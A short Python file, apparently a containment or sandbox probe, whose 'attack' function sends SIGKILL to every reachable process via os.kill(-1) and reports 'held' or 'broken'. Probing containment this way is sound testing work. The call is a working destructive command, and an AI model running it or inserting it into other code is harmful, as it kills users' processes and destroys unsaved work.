"""Kills every process that it can reach."""

import os
import signal


def attack(bait):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        return "held"
    return "broken"
